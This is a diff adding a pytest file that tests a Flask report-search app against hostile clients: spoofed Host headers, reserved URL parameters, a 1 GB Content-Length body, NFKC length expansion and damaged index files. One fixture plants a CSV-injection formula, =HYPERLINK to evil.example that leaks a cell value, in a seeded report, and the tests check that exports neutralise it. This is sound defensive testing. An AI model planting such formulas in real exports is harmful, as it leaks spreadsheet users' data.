@@ -1,0 +1,188 @@
+"""The web layer against a hostile client: links and redirects, formula cells, huge bodies, ids of any name."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import socket
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from web import create_app
+
+RESERVED = ("_external=1", "_anchor=x", "_scheme=javascript", "_method=POST", "endpoint=x", "doc_id=zzz", "chunk_id=y")
+
+
+def _report(town: str, first_line: str = "") -> str:
+    return (
+        f"{first_line}{town}2024年法治政府建设年度报告\n一、主要成效\n{town}推进法律援助，开展普法宣传。\n"
+        f"二、存在问题\n基层法治力量薄弱。\n"
+    )
+
+
+@pytest.fixture(scope="module")
+def seeds_app(tmp_path_factory: pytest.TempPathFactory):
+    """The web app over the bundled seeds, built with the hashing fake embedder."""
+    from conftest import SEEDS
+
+    from kb.build import build
+    from kb.embed import HashEmbedder
+
+    index = tmp_path_factory.mktemp("seeds-index")
+    assert build(SEEDS, index, HashEmbedder(), progress=False).documents == 5
+    app = create_app({"index": index, "model": "fake"})
+    app.config.update(TESTING=True)
+    yield app
+    app.extensions["kb"].close()
+
+
+@pytest.fixture()
+def fake_client(seeds_app):
+    return seeds_app.test_client()
+
+
+@pytest.fixture(scope="module")
+def hostile_app(tmp_path_factory: pytest.TempPathFactory):
+    """An index of reports with Chinese names (two of them sharing an old-style id) and a formula first line."""
+    from kb.build import build
+    from kb.embed import HashEmbedder
+
+    seeds = tmp_path_factory.mktemp("hostile-seeds")
+    index = tmp_path_factory.mktemp("hostile-index")
+    (seeds / "东升镇2025年法治政府建设年度报告.txt").write_text(_report("东升镇"), encoding="utf-8")
+    (seeds / "南头镇2025年法治政府建设年度报告.txt").write_text(_report("南头镇"), encoding="utf-8")
+    (seeds / "东湖镇2024报告.txt").write_text(
+        _report("东湖镇", '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")\n'), encoding="utf-8"
+    )
+    (seeds / "-dash.txt").write_text(_report("西湖镇", "@SUM(1+1)\n"), encoding="utf-8")
+    assert build(seeds, index, HashEmbedder(), progress=False).documents == 4
+    app = create_app({"index": index, "model": "fake"})
+    app.config.update(TESTING=True)
+    yield app
+    app.extensions["kb"].close()
+
+
+@pytest.mark.parametrize("extra", RESERVED)
+def test_reserved_url_for_names_in_the_query_neither_crash_nor_leave_the_site(fake_client, extra: str) -> None:
+    docs = fake_client.get("/api/docs").get_json()
+    chunk = fake_client.get("/api/search?q=行政复议&k=1").get_json()["results"][0]["chunk_id"]
+    prefix = docs[0]["doc_id"][:3]
+    for url in (f"/doc/{prefix}?{extra}", f"/?q=行政复议&{extra}", f"/?q=行政&locality=阜沙镇&{extra}",
+                f"/similar/{chunk}?{extra}", f"/compare?q=行政复议&{extra}"):
+        resp = fake_client.get(url, headers={"Host": "evil.example"})
+        assert resp.status_code < 500, (url, resp.status_code)
+        assert "evil.example" not in resp.headers.get("Location", ""), url
+        assert "evil.example" not in resp.get_data(as_text=True), url
+        assert "#x" not in resp.headers.get("Location", "") and "javascript:" not in resp.get_data(as_text=True)
+
+
+def test_known_parameters_still_carry_over_a_redirect(fake_client) -> None:
+    doc_id = fake_client.get("/api/docs").get_json()[0]["doc_id"]
+    resp = fake_client.get(f"/doc/{doc_id[:3]}?hl=0-5")
+    assert resp.status_code == 302 and resp.headers["Location"].endswith(f"/doc/{doc_id}?hl=0-5")
+
+
+def test_csv_cells_that_start_like_formulas_are_inert(hostile_app) -> None:
+    client = hostile_app.test_client()
+    for q in ("东湖镇 法律援助", "西湖镇 法律援助"):
+        body = client.get("/export.csv", query_string={"q": q, "k": 20}).get_data(as_text=True)
+        rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+        assert len(rows) > 1
+        cells = [c for r in rows for c in r]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], q
+    assert any(c.startswith("'=HYPERLINK") for c in cells) or any(c.startswith("'@SUM") for c in cells)
+
+
+def test_every_report_of_any_file_name_is_reachable(hostile_app) -> None:
+    client = hostile_app.test_client()
+    docs = client.get("/api/docs").get_json()
+    page = client.get("/docs").get_data(as_text=True)
+    assert len(docs) == 4 and len({d["doc_id"] for d in docs}) == 4
+    for d in docs:
+        assert f'href="/doc/{d["doc_id"]}"' in page
+        for url in (f"/doc/{d['doc_id']}", f"/doc/{d['doc_id']}/raw", f"/api/docs/{d['doc_id']}"):
+            assert client.get(url).status_code == 200, url
+
+
+def test_an_old_id_resolves_when_it_names_one_report_and_lists_the_candidates_otherwise(hostile_app) -> None:
+    from kb.ids import legacy_doc_id
+
+    client = hostile_app.test_client()
+    docs = {d["source"]: d["doc_id"] for d in client.get("/api/docs").get_json()}
+    resp = client.get(f"/doc/{legacy_doc_id('东湖镇2024报告.txt')}")
+    assert resp.status_code == 302 and resp.headers["Location"].endswith(f"/doc/{docs['东湖镇2024报告.txt']}")
+    shared = legacy_doc_id("东升镇2025年法治政府建设年度报告.txt")
+    assert shared == legacy_doc_id("南头镇2025年法治政府建设年度报告.txt")
+    resp = client.get(f"/api/docs/{shared}")
+    assert resp.status_code == 404
+    message = resp.get_json()["error"]["message"]
+    assert docs["东升镇2025年法治政府建设年度报告.txt"] in message and docs["南头镇2025年法治政府建设年度报告.txt"] in message
+
+
+def test_nfkc_expansion_cannot_pass_the_query_length_limit(fake_client) -> None:
+    resp = fake_client.get("/api/search", query_string={"q": "\ufdfa" * 500})
+    assert resp.status_code == 400 and "normalized" in resp.get_json()["error"]["message"]
+
+
+def test_waitress_refuses_a_huge_body_before_reading_it(monkeypatch: pytest.MonkeyPatch, seeds_app) -> None:
+    import waitress
+
+    try:
+        from web import serve as serve_mod
+    except ImportError:  # where it lived before web/serve.py
+        from kb import serve as serve_mod  # type: ignore[no-redef]
+
+    fake_app = seeds_app
+    made: list[object] = []
+
+    def capture(app, **kw):
+        kw["port"] = 0
+        server = waitress.create_server(app, **kw)
+        made.append(server)
+        monkeypatch.setattr(server, "run", lambda: (_ for _ in ()).throw(KeyboardInterrupt()))
+        return server
+
+    monkeypatch.setattr(serve_mod, "create_server", capture)
+    monkeypatch.setattr(serve_mod, "open_searcher", lambda index, emb: fake_app.extensions["kb"].searcher)
+    monkeypatch.setattr(serve_mod, "create_app", lambda settings: fake_app)
+    assert serve_mod.serve(Path("/nonexistent-seeds"), Path("/nonexistent-index"), None) == 0  # type: ignore[arg-type]
+    kw = made[0].adj  # type: ignore[attr-defined]
+    server = waitress.create_server(fake_app, host="127.0.0.1", port=0, max_request_body_size=kw.max_request_body_size)
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    try:
+        with socket.create_connection(("127.0.0.1", server.effective_port), timeout=10) as s:  # type: ignore[union-attr]
+            s.sendall(b"POST /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576000\r\n\r\n" + b"x" * 65536)
+            t0 = time.monotonic()
+            answer = s.recv(200)
+        assert answer.startswith(b"HTTP/1.1 413") and time.monotonic() - t0 < 5, answer
+    finally:
+        server.close()
+        thread.join(5)
+
+
+def test_files_damaged_under_a_live_server_neither_kill_it_nor_pass_health(tmp_path: Path) -> None:
+    from conftest import SEEDS
+
+    from kb.build import build
+    from kb.embed import HashEmbedder
+
+    index = tmp_path / "index"
+    build(SEEDS, index, HashEmbedder(), progress=False)
+    app = create_app({"index": index, "model": "fake"})
+    try:
+        client = app.test_client()
+        assert client.get("/api/health").status_code == 200
+        version = index / (index / "CURRENT").read_text().strip()
+        for p in (version / "bm25").glob("*.npy"):
+            os.truncate(p, 128)  # in place: a mapped array would now raise SIGBUS on its next read
+        assert client.get("/api/search", query_string={"q": "行政复议"}).status_code == 200
+        os.truncate(version / "kb.sqlite", 4096)
+        resp = client.get("/api/health")
+        assert resp.status_code == 503 and "damaged" in resp.get_json()["error"]["message"]
+    finally:
+        app.extensions["kb"].close()
